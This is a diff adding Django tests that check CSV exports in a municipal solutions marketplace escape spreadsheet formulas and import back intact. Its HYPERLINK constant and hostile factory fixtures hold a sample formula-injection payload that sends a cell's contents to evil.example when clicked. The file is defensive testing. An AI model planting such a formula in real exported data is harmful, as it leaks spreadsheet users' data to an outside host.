@@ -9,10 +9,22 @@ from django.contrib.auth.models import Group
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
+from marketplace import csvsafe
 from marketplace.choices import EditorialStatus
 from municipalities.models import Municipality
 from pilots.models import PilotProject
-from tests.factories import CategoryFactory, MunicipalityFactory, SolutionFactory, UserFactory
+from tests.factories import (
+    CategoryFactory,
+    MunicipalityFactory,
+    PilotProjectFactory,
+    ReferenceFactory,
+    SolutionFactory,
+    UserFactory,
+    VendorFactory,
+)
+
+# What an attacker would put in a name: a click in the spreadsheet sends the neighbouring cell away.
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Details")'
 
 
 @pytest.fixture(autouse=True)
@@ -116,3 +128,91 @@ def test_pilot_import_links_municipalities_by_ags_and_creates_drafts(client, edi
     assert pilot.lead_municipality.name == "Ulm"
     assert [m.name for m in pilot.partners.all()] == ["Neu-Ulm"]
     assert pilot.status == EditorialStatus.DRAFT
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+49 30 123", "'+49 30 123"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Musterstadt = Vorbild", "Musterstadt = Vorbild"),
+        ("", ""),
+        ("'=1+1", "'=1+1"),
+        (42, 42),
+        (None, None),
+    ],
+)
+def test_neutralise_quotes_what_a_spreadsheet_would_run(value, expected):
+    assert csvsafe.neutralise(value) == expected
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+49 30 123", "-2", "@A1", "\t=1", "\r=1", "Bonn", "'Bonn", ""])
+def test_restore_undoes_neutralise(value):
+    assert csvsafe.restore(csvsafe.neutralise(value)) == value
+
+
+def _hostile_municipality():
+    return MunicipalityFactory(name=HYPERLINK, contact_phone="+49 30 123")
+
+
+def _hostile_pilot():
+    return PilotProjectFactory(title=HYPERLINK, summary="@SUM(A1:A9)")
+
+
+def _hostile_solution():
+    return SolutionFactory(title=HYPERLINK, summary="-2+3")
+
+
+def _hostile_vendor():
+    return VendorFactory(name=HYPERLINK, phone="+49 30 123")
+
+
+def _hostile_reference():
+    return ReferenceFactory(statement=HYPERLINK)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("export", "make", "cells"),
+    [
+        (
+            "municipalities_municipality",
+            _hostile_municipality,
+            {"name": HYPERLINK, "contact_phone": "+49 30 123"},
+        ),
+        ("pilots_pilotproject", _hostile_pilot, {"title": HYPERLINK, "summary": "@SUM(A1:A9)"}),
+        ("solutions_solution", _hostile_solution, {"title": HYPERLINK, "summary": "-2+3"}),
+        ("solutions_vendor", _hostile_vendor, {"name": HYPERLINK, "phone": "+49 30 123"}),
+        ("pilots_reference", _hostile_reference, {"statement": HYPERLINK}),
+    ],
+    ids=["municipalities", "pilots", "solutions", "vendors", "references"],
+)
+def test_every_csv_export_neutralises_formulas(client, editor, export, make, cells):
+    make()
+    rows = _rows(client.get(reverse(f"admin:{export}_export")))
+    # The factories create related rows too (a solution's vendor, say); the hostile one carries HYPERLINK.
+    [row] = [row for row in rows if HYPERLINK in row.values() or f"'{HYPERLINK}" in row.values()]
+    assert {column: row[column] for column in cells} == {
+        column: f"'{value}" for column, value in cells.items()
+    }
+
+
+@pytest.mark.django_db
+def test_exported_municipalities_import_back_unchanged(client, editor):
+    MunicipalityFactory(name=HYPERLINK, ags="09162000", slug="muenchen", contact_phone="+49 89 1")
+    export = client.get(reverse("admin:municipalities_municipality_export"))
+    content = b"".join(export.streaming_content) if export.streaming else export.content
+    assert f"'{HYPERLINK}".replace('"', '""').encode() in content
+    preview = client.post(
+        reverse("admin:municipalities_municipality_import"),
+        {"import_file": SimpleUploadedFile("m.csv", content, content_type="text/csv"), "format": "0"},
+    )
+    result = preview.context["result"]
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert [row.import_type for row in result.rows] == ["skip"]
+    municipality = Municipality.objects.get(ags="09162000")
+    assert (municipality.name, municipality.contact_phone) == (HYPERLINK, "+49 89 1")
